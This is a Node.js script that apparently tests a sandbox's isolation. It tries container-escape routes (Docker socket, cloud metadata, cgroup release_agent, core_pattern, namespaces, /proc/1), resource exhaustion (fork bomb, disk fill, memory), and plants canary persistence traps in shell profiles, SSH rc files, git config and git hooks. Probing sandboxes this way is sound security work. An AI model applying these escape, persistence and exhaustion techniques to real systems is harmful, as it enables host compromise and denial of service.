// A hostile command. Run in a box, with targets.json beside it, it really tries each thing and prints a line `name=denied` or
// `name=reached (how)`. `node attack.mjs plant` leaves traps for the next run instead.
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { networkInterfaces, userInfo } from "node:os";
import { dirname, join } from "node:path";

import * as limits from "./attack-limits.mjs";
import * as places from "./attack-places.mjs";

const targets = JSON.parse(readFileSync(new URL("targets.json", import.meta.url), "utf8"));
const homes = [...new Set([process.env.HOME, userInfo().homedir])];
const CANARY = join(process.env.HOME, "sprung");
/** Each would spring when somebody who is not the planter starts a shell, git or ssh with that home or tree. */
const traps = (home) => ({
  [`${home}/.bashrc`]: spring("bashrc"),
  [`${home}/.bash_profile`]: spring("bash_profile"),
  [`${home}/.profile`]: spring("profile"),
  [`${home}/.ssh/rc`]: spring("ssh-rc"),
  [`${home}/.ssh/environment`]: `BASH_ENV=${home}/.bashrc\n`,
  [`${home}/.gitconfig`]: gitTrap(),
  [`${home}/.config/git/config`]: gitTrap(),
});

if (process.argv[2] === "plant") plant();
else await attack();

function say(line) {
  process.stdout.write(`${line}\n`);
}

function spring(name) {
  return `mkdir -p ${CANARY}; : >${CANARY}/${name}\n`;
}

function gitTrap() {
  const run = `mkdir -p ${CANARY} && : >${CANARY}/git`;
  return `[core]\n\tfsmonitor = "${run}"\n\tsshCommand = "${run}"\n\thooksPath = ${homes[0]}/hooks\n[credential]\n\thelper = "!${run}"\n`;
}

function plant() {
  const hook = `#!/bin/sh\n${spring("git-hook")}`;
  const hooks = ["post-checkout", "post-merge", "reference-transaction"].flatMap((name) =>
    [join(process.cwd(), ".git/hooks", name), `${homes[0]}/hooks/${name}`].map((path) => [path, hook]),
  );
  const all = [...homes.flatMap((home) => Object.entries(traps(home))), ...hooks];
  let planted = 0;
  for (const [path, text] of all) {
    try {
      mkdirSync(dirname(path), { recursive: true });
      writeFileSync(path, text, { mode: 0o755 });
      planted += 1;
    } catch {
      // Not for us to write.
    }
  }
  try {
    writeFileSync(join(process.cwd(), ".git/config"), gitTrap(), { flag: "a" });
  } catch {
    // Not for us to write.
  }
  say(`planted=${planted}`);
}

async function attack() {
  const { app, host, box } = targets;
  const kernel = [
    "/proc/sys/kernel/core_pattern",
    "/proc/sys/kernel/modprobe",
    "/proc/sysrq-trigger",
    "/sys/kernel/uevent_helper",
  ];
  const groups = ["memory", "pids", "cpu", "freezer"].map((name) => `/sys/fs/cgroup/${name}/release_agent`);
  const attempts = {
    "app-environment": () => places.appEnvironment(),
    "app-state": () => places.listed(app.stateDir),
    "app-keys": () => places.readable(app.files),
    "app-port": () => places.connects(app.ports),
    "admin-socket": () => places.connects(app.sockets),
    "docker-socket": () => places.connects(["/var/run/docker.sock", ...host.dockerSockets]),
    "host-ports": () => places.connects(host.ports),
    metadata: () => places.connects(host.metadata),
    "metadata-ipv6": () => places.connects(["fd00:ec2::254:80"]),
    neighbour: () => places.connects(host.neighbours),
    "ipv6-address": () =>
      Object.values(networkInterfaces())
        .flat()
        .find(({ family, internal }) => family === "IPv6" && !internal)?.address ?? null,
    "earlier-token": () => places.token([...homes, "/tmp", "/run"]),
    "planted-traps": () => (existsSync(CANARY) ? CANARY : null),
    "box-keepers": () =>
      places.writable(
        ["/run/crabbox/expires-at", "/run/crabbox/authorized_keys", "/run/crabbox/host_key"],
        "0\n",
      ),
    "other-process": () => places.otherProcess(),
    "process-1-root": () => places.readable(["/proc/1/environ", "/proc/1/root/etc/passwd"]),
    "system-files": () => places.writable(["/usr/bin/git.new", "/etc/passwd.new", "/opt/crabbox/x"], "x"),
    "kernel-files": () => places.opensForWriting([...kernel, ...groups]),
    device: () => places.device(),
    "setuid-file": () => places.setuidFile(),
    capabilities: () => (/^CapEff:\s*0+$/m.test(readFileSync("/proc/self/status", "utf8")) ? null : "CapEff"),
    mount: () =>
      limits.succeeds([
        ["mount", "-t", "tmpfs", "none", "/mnt"],
        ["unshare", "--user", "--map-root-user", "--mount", "mount", "-t", "tmpfs", "none", "/mnt"],
      ]),
    "new-namespaces": () =>
      limits.succeeds([
        ["unshare", "--user", "true"],
        ["unshare", "--net", "true"],
      ]),
    "fork-bomb": () => limits.forkBomb(box.processes),
    "disk-fill": () => limits.diskFill(process.env.HOME, box.mib) ?? limits.diskFill("/tmp", box.mib),
    memory: () => limits.memory(box.mib),
  };
  for (const [name, attempt] of Object.entries(attempts)) {
    const reached = await attempt();
    say(reached === null ? `${name}=denied` : `${name}=reached (${reached})`);
  }
  say("attack=over");
}
